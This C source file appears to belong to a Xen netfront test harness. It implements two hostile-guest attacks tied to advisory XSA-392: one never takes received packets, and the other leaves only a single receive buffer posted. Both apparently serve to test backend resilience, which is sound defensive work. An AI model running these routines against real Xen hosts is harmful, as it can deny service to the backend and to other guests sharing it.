// SPDX-License-Identifier: GPL-2.0-or-later
/* Attacks of a guest that does not take what it is sent. See hostile.h. */
#include <poll.h>

#include "netback/netfront/hostile.h"
#include "netconf/base/loop.h"

#define LOOK_MS 5

static void look_away(uint32_t ms)
{
	struct pollfd none = {.fd = -1};

	(void)poll(&none, 1, (int)ms);
}

static int rx_stop(struct xnf_hostile *one, struct xn_err *err)
{
	const struct netif_rx_sring *ring = one->raw.queue->rx_ring;
	uint32_t before = one->raw.queue->rx.rsp_cons;

	(void)err;
	look_away(one->options.run_ms);
	xnf_report(one, "delivered", xnb_index_load(&ring->rsp_prod) - before);
	return 0;
}

static void post_one(struct xnf_queue *queue)
{
	struct xnf_rx *rx = &queue->rx;
	uint32_t slot = rx->posted % XNF_RING_SLOTS;

	xnb_rx_slot(rx->shared, rx->posted)->req = (struct netif_rx_request){
		.id = (uint16_t)slot,
		.gref = rx->refs[slot],
	};
	xnb_index_publish(&rx->shared->req_prod, ++rx->posted);
	xnf_queue_kick_rx(queue);
}

/* Takes all, and gives back a single buffer each time. */
static int rx_one_slot(struct xnf_hostile *one, struct xn_err *err)
{
	uint64_t until = xn_now_ms() + one->options.run_ms;
	struct xnf_queue *queue = one->raw.queue;
	struct xnf_rx_packet packet;
	uint64_t given = 0, taken = 0;

	(void)err;
	while (xn_now_ms() < until && !queue->rx.fault) {
		while (xnf_rx_take(&queue->rx, &packet) > 0)
			taken++;
		if (queue->rx.rsp_cons == queue->rx.posted) {
			post_one(queue);
			given++;
		}
		if (!xnf_rx_arm(&queue->rx))
			look_away(LOOK_MS);
	}
	xnf_report(one, "taken", taken);
	xnf_report(one, "single_buffers", given);
	return 0;
}

const struct xnf_attack xnf_attacks_rx[] = {
	{.name = "rx-stop",
	 .advisory = "XSA-392",
	 .what = "takes nothing of what it is sent",
	 .run = rx_stop},
	{.name = "rx-one-slot",
	 .advisory = "XSA-392",
	 .what = "leaves a single receive buffer",
	 .run = rx_one_slot},
	{.name = NULL},
};
